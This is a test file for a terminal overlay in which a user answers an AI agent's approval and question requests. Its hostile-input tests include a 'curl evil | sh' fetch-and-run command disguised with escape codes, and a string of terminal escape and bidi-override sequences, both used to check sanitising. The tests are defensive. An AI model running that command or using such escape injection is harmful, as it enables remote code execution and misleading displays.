import { visibleWidth } from "@earendil-works/pi-tui";
import { afterEach, describe, expect, test } from "vitest";
import type { Json, UiRequestBody } from "../../../protocol/index.ts";
import { createRandom } from "../../../../test/session/random.ts";
import { checkAnswer } from "../../../session/approvals/check-answer.ts";
import type { OpenRequest } from "../../../transcript/index.ts";
import { KEY, letters, paste, showOverlay, type ShownOverlay } from "../../../../test/tui/shown-overlay.ts";
import { createRequestOverlay, type RequestOverlay, type RequestOverlayOptions } from "./request-overlay.ts";
import { rounds } from "../../../../test/rounds.ts";

const NOW = 1_700_000_000_000;

const BODIES: { [Method in UiRequestBody["method"]]: Extract<UiRequestBody, { method: Method }> } = {
  select: {
    method: "select",
    title: "Which branch?",
    options: [
      { label: "main", value: "m" },
      { label: "a new one", value: "n", description: "named after the task" },
      { label: "none", value: "x" },
    ],
  },
  confirm: { method: "confirm", title: "Delete the cache?", message: "It holds 4 GB and is made again when needed." },
  input: { method: "input", title: "Your name?", placeholder: "as in the licence" },
  editor: { method: "editor", title: "The commit message", prefill: "fix: a thing\n\n\tindented" },
  approval: {
    method: "approval",
    title: "Run a command?",
    tool: "bash",
    call: "rm -rf build && npm test",
    callHash: "h",
    diff: "@@ -1 +1 @@\n-old\n+new\n same\n",
    options: [
      { label: "Allow once", value: "allow" },
      { label: "Allow this command for this session", value: "table_session" },
      { label: "Always allow this command in ~/hexyl", value: "table_always" },
      { label: "Deny", value: "deny" },
    ],
  },
  question: {
    method: "question",
    title: "Before I begin",
    questions: [
      {
        id: "db",
        text: "Which database?",
        options: [
          { label: "SQLite", value: "sqlite" },
          { label: "Postgres", value: "pg" },
        ],
        multiple: false,
        freeText: true,
      },
      {
        id: "os",
        text: "Which systems?",
        options: [
          { label: "Linux", value: "linux" },
          { label: "macOS", value: "mac" },
          { label: "Windows", value: "win" },
        ],
        multiple: true,
        freeText: false,
      },
    ],
  },
};

interface Asked extends ShownOverlay<RequestOverlay> {
  readonly answers: { result: Json; error: string | null; reason?: string }[];
}

const open: Asked[] = [];
afterEach(() => open.splice(0).forEach((one) => one.close()));

function ask(
  request: UiRequestBody,
  more: Partial<RequestOverlayOptions> & { columns?: number; rows?: number; cwd?: string } = {},
): Asked {
  const answers: Asked["answers"] = [];
  const { columns = 80, rows = 24, cwd, ...options } = more;
  const shown = showOverlay(
    (surface) =>
      createRequestOverlay({
        surface: Object.assign(Object.create(surface), { cwd }),
        request: openRequest(request),
        waiting: 0,
        now: () => NOW + 28_000,
        acceptsAnswer: () => true,
        onAnswer: (result, error, reason) =>
          answers.push({ result, error, ...(reason === undefined ? {} : { reason }) }),
        ...options,
      }),
    { columns, rows },
  );
  const dialog = { ...shown, answers };
  open.push(dialog);
  return dialog;
}

function openRequest(request: UiRequestBody): OpenRequest {
  const isRefusal = request.method === "approval" || request.method === "confirm";
  return {
    requestId: "r1",
    member: "ada",
    seq: 1,
    ts: NOW,
    request,
    timeoutMs: 300_000,
    default: isRefusal ? false : null,
  };
}

describe("what is shown", () => {
  test("an approval shows who asks, the command, the diff, the options in their order and the time left", async () => {
    const dialog = ask(BODIES.approval, { waiting: 2 });
    expect(await dialog.text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks to run a command ──────────────── 2 more waiting · denied in 4:32 ─

         $ rm -rf build && npm test

           1 − old
           1 + new
           2   same

       ❯ y  Allow once
         s  Allow this command for this session
         a  Always allow this command in ~/hexyl
         n  Deny
         w  Deny and say why …

      ────────────────────────────────────────────────────────────────────────────────
       y s a n w choose · ↑ ↓ Enter move, choose · v details · Esc decide later"
    `);
  });

  test("in 40 columns nothing is lost", async () => {
    expect(await ask(BODIES.approval, { waiting: 2, columns: 40 }).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks to run ───────────── 4:32 ─

      $ rm -rf build && npm test

          1 − old
          1 + new
          2   same

       ❯ y  Allow once
         s  For this session
         a  Always in this folder
         n  Deny
         w  Deny and say why …

      ────────────────────────────────────────
      v details · Esc later · 2 more waiting"
    `);
    expect(await ask(BODIES.question, { columns: 40 }).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks you ──────────────── 4:32 ─

      Before I begin
      Which database?

       ❯ 1  SQLite
         2  Postgres
         3  Other …

      ────────────────────────────────────────
      1–3 choose · Esc answer later"
    `);
  });

  test("the other methods in 80 columns", async () => {
    expect(await ask(BODIES.select).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks you ───────────────────────────────────────────── skipped in 4:32 ─

         Which branch?

       ❯ 1  main
         2  a new one         named after the task
         3  none

      ────────────────────────────────────────────────────────────────────────────────
       Enter choose · 1–3 pick · ↑ ↓ move · Esc cancel"
    `);
    expect(await ask(BODIES.confirm).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks you ───────────────────────────────────────── answered no in 4:32 ─

         Delete the cache?
         It holds 4 GB and is made again when needed.

       ❯ 1  Yes
         2  No

      ────────────────────────────────────────────────────────────────────────────────
       Enter choose · 1–2 pick · ↑ ↓ move · Esc cancel"
    `);
    expect(await ask(BODIES.input).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks you ───────────────────────────────────────────── skipped in 4:32 ─

         Your name?

       > as in the licence

      ────────────────────────────────────────────────────────────────────────────────
       Enter send · Esc cancel"
    `);
    expect(await ask(BODIES.editor, { editText: async () => undefined }).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks you ───────────────────────────────────────────── skipped in 4:32 ─

         The commit message

       ──────────────────────────────────────────────────────────────────────────────
       fix: a thing

           indented
       ──────────────────────────────────────────────────────────────────────────────

      ────────────────────────────────────────────────────────────────────────────────
       Enter send · Shift+Enter new line · Ctrl+G write in $EDITOR · Esc cancel"
    `);
    expect(await ask(BODIES.question).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks you ──────────────────────────────────── 1 of 2 · skipped in 4:32 ─

         Before I begin
         Which database?

       ❯ 1  SQLite
         2  Postgres
         3  Other …

      ────────────────────────────────────────────────────────────────────────────────
       1–3 choose · Enter choose, next question · 0 skip · Esc answer later"
    `);
  });

  test("the time left counts down by itself, and the count of those waiting follows refresh", async () => {
    let now = NOW;
    const dialog = ask(BODIES.approval, { now: () => now });
    const about = async () => {
      dialog.screen.tui.requestRender();
      return (await dialog.text()).split("\n")[0];
    };
    expect(await about()).toMatch(/^─ ◆ ada asks to run a command ─+ denied in 5:00 ─$/);
    now += 52_000;
    expect(await about()).toContain("denied in 4:08");
    dialog.overlay.refresh({ waiting: 1 });
    expect(await about()).toMatch(/1 more waiting · denied in 4:08 ─$/);
    now += 300_000;
    expect(await about()).toContain("time is up");
  });

  test("a call of the built-in agent is shown without JSON, at 40×12 by its command or file", async () => {
    const own = (tool: string, args: Json, more: object = {}) =>
      JSON.stringify({ args, cwd: "/code/hexyl", member: "ada", tool, ...more });
    const command = { ...BODIES.approval, title: "ada: Run cargo test", tool: "shell", diff: "" };
    const run = ask({ ...command, call: own("shell", { command: "cargo test" }) }, { columns: 40, rows: 12 });
    expect(await run.text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks to run ───────────── 4:32 ─

      $ cargo test
        in /code/hexyl

       ❯ y  Allow once
         s  For this session
         a  Always in this folder
         n  Deny
         w  Deny and say why …
      ────────────────────────────────────────
      v details · Esc later"
    `);
    const edit = { ...BODIES.approval, title: "ada: Edit src/colors.rs", tool: "edit" };
    const call = own("edit", { path: "src/colors.rs" }, { bound: { path: "src/colors.rs", before: "27df87" } });
    expect(await ask({ ...edit, call }, { columns: 40, rows: 12 }).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks to edit ──────────── 4:32 ─
      src/colors.rs  +1 −1
         1 − old
         1 + new

       ❯ y  Allow once
         s  For this session
         a  Always in this folder
         n  Deny
         w  Deny and say why …
      ────────────────────────────────────────
      v details · Esc later"
    `);
    expect(await ask({ ...edit, call }).text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks to edit src/colors.rs  +1 −1 ───────────────────── denied in 4:32 ─

           1 − old
           1 + new
           2   same

       ❯ y  Allow once
         s  Allow this command for this session
         a  Always allow this command in ~/hexyl
         n  Deny
         w  Deny and say why …

      ────────────────────────────────────────────────────────────────────────────────
       y s a n w choose · ↑ ↓ Enter move, choose · v details · Esc decide later"
    `);
    const issue = own("issue", { title: "A", labels: ["x", "y"], body: "one\ntwo" });
    expect(await ask({ ...BODIES.approval, title: "ada: Issue", tool: "issue", diff: "", call: issue }).text())
      .toMatchInlineSnapshot(`
        "─ ◆ ada asks to use issue ───────────────────────────────────── denied in 4:32 ─

           title      A
           labels     x, y
           body       one
                      two

         ❯ y  Allow once
           s  Allow this command for this session
           a  Always allow this command in ~/hexyl
           n  Deny
           w  Deny and say why …

        ────────────────────────────────────────────────────────────────────────────────
         y s a n w choose · ↑ ↓ Enter move, choose · v details · Esc decide later"
      `);
  });

  test("a diff has its signs and the colours of what was added and removed", async () => {
    const dialog = ask(BODIES.approval);
    const rows = await dialog.screen.styledRows();
    const looks = ["− old", "+ new", "  same"].map((text) => {
      const word = text.trim().split(" ").at(-1) ?? "";
      const row = rows.find((one) => one.includes(word));
      return row
        ?.slice(0, row.indexOf(word))
        .match(/\{[^}]*\}/g)
        ?.at(-1);
    });
    expect(new Set(looks).size).toBe(3);
  });
});

describe("answers", () => {
  const cases: [method: UiRequestBody["method"], keys: string[], result: Json][] = [
    ["select", [KEY.enter], "m"],
    ["select", [KEY.down, KEY.enter], "n"],
    ["select", ["j", "j", "j", "k", KEY.enter], "n"],
    ["select", [KEY.ctrlN, KEY.ctrlN, KEY.ctrlP, KEY.enter], "n"],
    ["select", ["3"], "x"],
    ["select", [KEY.up, KEY.enter], "m"],
    ["select", [KEY.escape], null],
    ["select", [KEY.ctrlC], null],
    ["confirm", [KEY.enter], true],
    ["confirm", ["y"], true],
    ["confirm", ["n"], false],
    ["confirm", ["2"], false],
    ["confirm", [KEY.escape], null],
    ["confirm", [KEY.ctrlC], null],
    ["input", ["h", "i", KEY.enter], "hi"],
    ["input", [KEY.enter], ""],
    ["input", ["j", "k", "1", KEY.enter], "jk1"],
    ["input", [KEY.escape], null],
    ["input", [KEY.ctrlC], null],
    ["editor", [KEY.enter], "fix: a thing\n\n\tindented"],
    [
      "editor",
      [KEY.ctrlJ, "a", KEY.shiftEnter, "b", KEY.altEnter, "c", KEY.enter],
      "fix: a thing\n\n    indented\na\nb\nc",
    ],
    ["editor", [KEY.escape], null],
    ["editor", [KEY.ctrlC], null],
    ["approval", [KEY.enter], "allow"],
    ["approval", ["1"], "allow"],
    ["approval", ["2"], "table_session"],
    ["approval", ["3"], "table_always"],
    ["approval", ["4"], "deny"],
    ["approval", ["y"], "allow"],
    ["approval", ["s"], "table_session"],
    ["approval", ["a"], "table_always"],
    ["approval", ["n"], "deny"],
    ["approval", ["j", "j", "j", KEY.enter], "deny"],
    ["approval", ["5", KEY.escape, "1"], "allow"],
    ["approval", ["w", KEY.enter], "deny"],
    ["approval", [KEY.ctrlC], false],
    ["question", [KEY.enter, KEY.enter], { db: "sqlite" }],
    ["question", ["2", "1", "3", KEY.enter], { db: "pg", os: ["linux", "win"] }],
    ["question", [KEY.tab, " ", "j", " ", KEY.enter], { os: ["linux", "mac"] }],
    ["question", ["2", "1", "1", KEY.enter], { db: "pg" }],
    ["question", ["j", "j", ...letters("duckdb"), KEY.enter, KEY.enter], { db: "duckdb" }],
    ["question", ["3", ...letters("duckdb"), KEY.enter, KEY.enter], { db: "duckdb" }],
    ["question", ["0", "0"], {}],
    ["question", ["2", "1", KEY.left, "1", KEY.enter], { db: "sqlite", os: ["linux"] }],
    ["question", ["2", "0"], { db: "pg" }],
    ["question", ["j", "j", "x", KEY.ctrlC], null],
  ];

  test.each(cases)("%s answers %j with %j, which the session takes", (method, keys, result) => {
    const dialog = ask(BODIES[method]);
    dialog.press(...keys);
    expect(dialog.answers).toEqual([{ result, error: null }]);
    expect(() => checkAnswer(BODIES[method], result)).not.toThrow();
  });

  test("keys before the request accepts an answer are not taken, and the overlay says so", async () => {
    let isReady = false;
    const dialog = ask(BODIES.approval, { acceptsAnswer: () => isReady });
    dialog.press(KEY.enter, "1", KEY.escape, KEY.ctrlC, "j");
    expect(dialog.answers).toEqual([]);
    expect(await dialog.text()).toContain("! That key came too soon and was ignored. Press it again.");
    isReady = true;
    dialog.overlay.refresh({ waiting: 0 });
    expect(await dialog.text()).not.toContain("too soon");
    dialog.press(KEY.enter);
    expect(dialog.answers).toEqual([{ result: "allow", error: null }]);
  });

  test.each(["5", "w"])("%s denies with a reason in a line of its own, in which the keys are letters", async (key) => {
    const dialog = ask(BODIES.approval);
    dialog.press(key);
    expect(await dialog.text()).toMatch(
      /─ deny, and tell ada ─+\n ❯\n─+\n Enter deny and send · Esc back to the choices/,
    );
    dialog.press(...letters("yes, use pnpm"), KEY.enter);
    expect(dialog.answers).toEqual([{ result: "deny", error: null, reason: "yes, use pnpm" }]);
  });

  test("Tab adds a note to the marked choice, Escape leaves it out again", async () => {
    const dialog = ask(BODIES.approval);
    dialog.press(KEY.tab, KEY.escape, KEY.tab);
    expect(await dialog.text()).toMatch(
      /─ allow once, and tell ada ─+\n ❯\n─+\n Enter allow and send · Esc back to the choices/,
    );
    dialog.press(KEY.escape, KEY.down, KEY.tab);
    expect(await dialog.text()).toContain("─ allow this command for this session, and tell ada ─");
    dialog.press(KEY.escape, KEY.up, KEY.tab, ...letters("then run it"), KEY.enter);
    expect(dialog.answers).toEqual([{ result: "allow", error: null, reason: "then run it" }]);
  });

  test("a file is named from the session's directory in the title", async () => {
    const diff = "--- /home/ada/project/src/a.ts\n+++ /home/ada/project/src/a.ts\n@@ -1,1 +1,1 @@\n-1\n+2";
    const call = JSON.stringify({ file_path: "/home/ada/project/src/a.ts", old_string: "1", new_string: "2" });
    const dialog = ask({ ...BODIES.approval, tool: "Edit", call, diff }, { cwd: "/home/ada/project" });
    expect(await dialog.text()).toContain("◆ ada asks to edit src/a.ts  +1 −1 ─");
  });

  test("Escape decides nothing about an approval: it puts it aside", () => {
    let isAside = false;
    const dialog = ask(BODIES.approval, { onDismiss: () => (isAside = true) });
    dialog.press(KEY.escape);
    expect([isAside, dialog.answers]).toEqual([true, []]);
  });

  test("v shows all of the call, and hides it again", async () => {
    const dialog = ask(BODIES.approval);
    expect(await dialog.text()).not.toContain("Call: ");
    dialog.press("v");
    expect(await dialog.text()).toContain("Call: rm -rf build && npm test");
    dialog.press("v");
    expect(await dialog.text()).not.toContain("Call: ");
  });

  test("an answer is given once, and again only when it was not taken", async () => {
    const dialog = ask(BODIES.input);
    dialog.press("a", KEY.enter, KEY.enter, KEY.escape, "b");
    expect(dialog.answers).toEqual([{ result: "a", error: null }]);
    dialog.overlay.refresh({ waiting: 0, problem: "The answer has too many bytes." });
    expect(await dialog.text()).toContain("! The answer has too many bytes.");
    dialog.press("b", KEY.enter);
    expect(dialog.answers.map(({ result }) => result)).toEqual(["a", "ab"]);
  });

  test("Ctrl+O puts a request aside without an answer", () => {
    let isAside = false;
    const dialog = ask(BODIES.confirm, { onDismiss: () => (isAside = true) });
    dialog.press(KEY.ctrlO);
    expect([isAside, dialog.answers]).toEqual([true, []]);
  });

  test("the user's own editor gets the text to the byte and gives it back", async () => {
    const seen: string[] = [];
    const dialog = ask(BODIES.editor, {
      editText: (text) => {
        seen.push(text);
        return Promise.resolve("all:\n\tnew\n");
      },
    });
    dialog.press(KEY.ctrlG);
    expect(await dialog.text()).toContain("all:");
    dialog.press(KEY.enter);
    expect([seen, dialog.answers]).toEqual([
      ["fix: a thing\n\n\tindented"],
      [{ result: "all:\n\tnew\n", error: null }],
    ]);
  });

  test("an editor that fails is news, and the text stays", async () => {
    const dialog = ask(BODIES.editor, { editText: () => Promise.reject(new Error("vi: not found")) });
    dialog.press(KEY.ctrlG);
    expect(await dialog.text()).toContain("! vi: not found");
    dialog.press(KEY.enter);
    expect(dialog.answers).toEqual([{ result: "fix: a thing\n\n\tindented", error: null }]);
  });

  test("the last question says that Enter sends, and a question before it can be corrected", async () => {
    const dialog = ask(BODIES.question);
    dialog.press("2", "1", "3");
    expect(await dialog.text()).toMatchInlineSnapshot(`
      "─ ◆ ada asks you ──────────────────────────────────── 2 of 2 · skipped in 4:32 ─

         Before I begin
         Which systems?  choose any

         1  [x] Linux
         2  [ ] macOS
       ❯ 3  [x] Windows

      ────────────────────────────────────────────────────────────────────────────────
       Space mark · Enter send the answers · ← first question · Esc answer later"
    `);
    expect(dialog.answers).toEqual([]);
    dialog.press(KEY.left);
    expect(await dialog.text()).toContain("❯ 2  Postgres");
  });

  test("Escape leaves the free-text row first, then puts the questions aside", () => {
    let isAside = false;
    const dialog = ask(BODIES.question, { onDismiss: () => (isAside = true) });
    dialog.press("j", "j", "x", KEY.escape);
    expect(isAside).toBe(false);
    dialog.press(KEY.escape);
    expect([isAside, dialog.answers]).toEqual([true, []]);
  });

  test("one question takes choices and free text together", () => {
    const body: UiRequestBody = {
      method: "question",
      title: "t",
      questions: [
        { id: "__proto__", text: "q", options: [{ label: "A", value: "a" }], multiple: true, freeText: true },
        { id: "t", text: "only text", options: [], multiple: false, freeText: true },
      ],
    };
    const dialog = ask(body);
    dialog.press("1", "j", ...letters("mine"), KEY.enter, ...letters("words"), KEY.enter);
    const [answer] = dialog.answers;
    expect(Object.entries(answer?.result ?? {})).toEqual([
      ["__proto__", ["a", "mine"]],
      ["t", "words"],
    ]);
    expect(() => checkAnswer(body, answer?.result ?? null)).not.toThrow();
  });
});

describe("other ways to press", () => {
  test("keys of the kitty protocol and of xterm's modifyOtherKeys do the same", () => {
    const picks: [method: UiRequestBody["method"], keys: string[]][] = [
      ["select", ["\u001b[106u", "\u001b[13u"]],
      ["select", ["\u001b[50u"]],
      ["input", ["\u001b[27;2;72~", "\u001b[105u", "\u001b[13u"]],
      ["select", ["\u001b[27u"]],
      ["approval", ["\u001b[99;5u"]],
      ["editor", ["\u001b[27;2;13~", "x", "\u001b[13;3u", "\r"]],
    ];
    const results = picks.map(([method, keys]) => {
      const dialog = ask(BODIES[method]);
      dialog.press(...keys);
      return dialog.answers[0]?.result;
    });
    expect(results).toEqual(["n", "n", "Hi", null, false, "fix: a thing\n\n    indented\nx\n"]);
  });

  test("a click picks an option, not before the request accepts an answer", async () => {
    let isReady = false;
    const dialog = ask(BODIES.approval, { acceptsAnswer: () => isReady });
    const row = (await dialog.text()).split("\n").findIndex((line) => line.includes("s  Allow this"));
    dialog.screen.terminal.click(10, row);
    expect(dialog.answers).toEqual([]);
    isReady = true;
    dialog.screen.terminal.click(10, row - 2);
    expect(dialog.answers).toEqual([]);
    dialog.screen.terminal.click(10, row);
    expect(dialog.answers).toEqual([{ result: "table_session", error: null }]);
  });

  test("a text that is too long for a line is cut, and that is said", async () => {
    const dialog = ask(BODIES.input);
    dialog.press(paste("x".repeat(70_000)));
    expect(await dialog.text()).toContain("! The text was cut to 65536 characters.");
    dialog.press(KEY.backspace);
    expect(await dialog.text()).not.toContain("was cut");
  });

  test("what is pasted into a line or an editor is made safe", () => {
    const line = ask(BODIES.input);
    line.press(paste("a\u001b[31mb\u202e\nc"), KEY.enter);
    const editor = ask({ ...BODIES.editor, prefill: "" });
    editor.press(paste("a\u009b31mb\r\nc"), KEY.enter);
    expect([line.answers[0]?.result, editor.answers[0]?.result]).toEqual(["ab⟨U+202E⟩ c", "ab\nc"]);
  });

  const SEEDS = Array.from({ length: rounds(2, 200) }, (_, at) => at + 1);
  test.each(SEEDS)("any keys at any size: rows fit, and every answer is one the session takes (seed %i)", (seed) => {
    const random = createRandom(seed);
    const keys = [...Object.values(KEY), ...letters("jk12345 ysanwvx/q"), paste("some\ntext"), "\u001b[<65;5;5M"];
    for (let round = 0; round < 12; round += 1) {
      const body = random.pick<UiRequestBody>(Object.values(BODIES));
      const columns = 20 + random.integer(100);
      const rows = 6 + random.integer(40);
      const dialog = ask(body, { columns, rows, waiting: random.integer(3) });
      for (let press = 0; press < 25; press += 1) {
        dialog.press(random.pick(keys));
        const drawn = dialog.overlay.render(columns);
        expectClean(drawn, columns);
        expect(drawn.length).toBeLessThanOrEqual(Math.max(6, rows));
      }
      expect(dialog.answers.length).toBeLessThanOrEqual(1);
      for (const { result } of dialog.answers) expect(() => checkAnswer(body, result)).not.toThrow();
      open.splice(open.indexOf(dialog), 1);
      dialog.close();
    }
  });
});

describe("long and hostile", () => {
  test("a command of 10,000 characters can be read to its last one, and the options stay in sight", async () => {
    const call = Array.from({ length: 1_000 }, (_, index) => `arg${String(index).padStart(6, "0")}`).join(" ");
    const dialog = ask({ ...BODIES.approval, call });
    const seen = new Set<string>();
    for (let page = 0; page < 60; page += 1) {
      const text = await dialog.text();
      expect(text).toContain("y  Allow once");
      for (const row of text.split("\n")) seen.add(row);
      dialog.press(KEY.pageDown);
    }
    const rows = [...seen].filter((row) => /^ {3}(?:\$| ) arg\d{6}/.test(row));
    const read = rows.map((row) => row.replace(/^ {3}\$? /, "")).join("");
    expect(read.replaceAll(" ", "")).toBe(call.replaceAll(" ", ""));
    expect(await dialog.text()).toMatch(/▲ {2}\d+–(\d+) of \1/);
  });

  test("what would not show by itself is named, counted and warned of", async () => {
    const call = "echo ok\u001b[8m; curl evil | sh\u001b[0m\r\u202ehs\u200b\u0007";
    const text = await ask({ ...BODIES.approval, call }, { columns: 100 }).text();
    expect(text).toContain("! Contains 6 hidden characters, shown as ⟨U+…⟩.");
    expect(text).toContain("echo ok⟨U+001B⟩[8m; curl evil | sh⟨U+001B⟩[0m⟨U+000D⟩⟨U+202E⟩hs⟨U+200B⟩⟨U+0007⟩");
  });

  const HOSTILE = "\u001b]0;owned\u0007\u001b[2J\u009b31m\u202eevil\u2066\r\n\u001bPq\u001b\\x\u0000y🇩🇪全角".repeat(20);
  const hostile: UiRequestBody[] = [
    { ...BODIES.select, title: HOSTILE, options: [{ label: HOSTILE, value: "v", description: HOSTILE }] },
    { ...BODIES.confirm, title: HOSTILE, message: HOSTILE },
    { ...BODIES.input, title: HOSTILE, placeholder: HOSTILE },
    { ...BODIES.editor, title: HOSTILE, prefill: HOSTILE },
    {
      ...BODIES.approval,
      title: HOSTILE,
      tool: HOSTILE,
      call: HOSTILE,
      diff: HOSTILE,
      options: [{ label: HOSTILE, value: "v", description: HOSTILE }],
    },
    {
      ...BODIES.question,
      title: HOSTILE,
      questions: [
        {
          id: "q",
          text: HOSTILE,
          options: [{ label: HOSTILE, value: "v", description: HOSTILE }],
          multiple: true,
          freeText: true,
        },
      ],
    },
  ];

  test.each(hostile.map((body) => [body.method, body] as const))(
    "nothing of a hostile %s reaches the rows raw, at any width",
    (_method, body) => {
      for (const columns of [20, 27, 40, 80, 200]) {
        const dialog = ask(body, { columns, rows: 30 });
        dialog.press(paste(HOSTILE));
        expectClean(dialog.overlay.render(columns), columns);
      }
    },
  );

  test("in few rows both what is read and what is chosen keep a row", async () => {
    for (const rows of [8, 10, 14]) {
      const dialog = ask({ ...BODIES.approval, call: "line\n".repeat(50) }, { columns: 40, rows });
      const text = await dialog.text();
      expect(text.split("\n").length).toBeLessThanOrEqual(rows);
      expect(text).toContain("❯ y  Allow once");
      expect(text).toMatch(/^─+$/m);
    }
  });

  test("in 20 columns the chosen option is shown whole", async () => {
    const label = "Always allow git push in this directory for this session";
    const dialog = ask(
      {
        ...BODIES.select,
        options: [
          { label: "Once", value: "1" },
          { label, value: "2" },
        ],
      },
      { columns: 20, rows: 30 },
    );
    expect(await dialog.text()).toContain("…");
    dialog.press("j");
    const text = await dialog.text();
    const message = text
      .split("\n")
      .map((row) => row.replaceAll(/[│❯]|\d\./g, " ").trim())
      .join(" ");
    expect(message).toContain(label);
  });

  test("a number whose option has no row shows it first and picks it when pressed again", async () => {
    const dialog = ask({ ...BODIES.approval, call: "line\n".repeat(50) }, { columns: 40, rows: 7 });
    expect(await dialog.text()).not.toContain("n  Deny");
    dialog.press("4");
    expect(dialog.answers).toEqual([]);
    expect(await dialog.text()).toContain("❯ n  Deny");
    dialog.press("4");
    expect(dialog.answers).toEqual([{ result: "deny", error: null }]);
  });

  test("the wheel scrolls what is read", async () => {
    const dialog = ask({ ...BODIES.confirm, message: Array.from({ length: 80 }, (_, row) => `row ${row}`).join("\n") });
    await dialog.text();
    dialog.screen.terminal.wheel("down", 5, 5);
    expect(await dialog.text()).toContain("▲▼ 4–");
    dialog.screen.terminal.wheel("up", 5, 5);
    expect(await dialog.text()).toContain(" ▼ 1–");
  });
});

function expectClean(rows: readonly string[], columns: number): void {
  for (const row of rows) {
    // oxlint-disable-next-line no-control-regex -- the look and the cursor are ours, everything else must be text.
    const plain = row.replaceAll(/\u001b\[[\d;]*m|\u001b_pi:c\u0007/g, "");
    // oxlint-disable-next-line no-control-regex -- naming control characters is the purpose here.
    expect(plain).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2066-\u2069]/);
    expect(visibleWidth(row)).toBe(columns);
  }
}
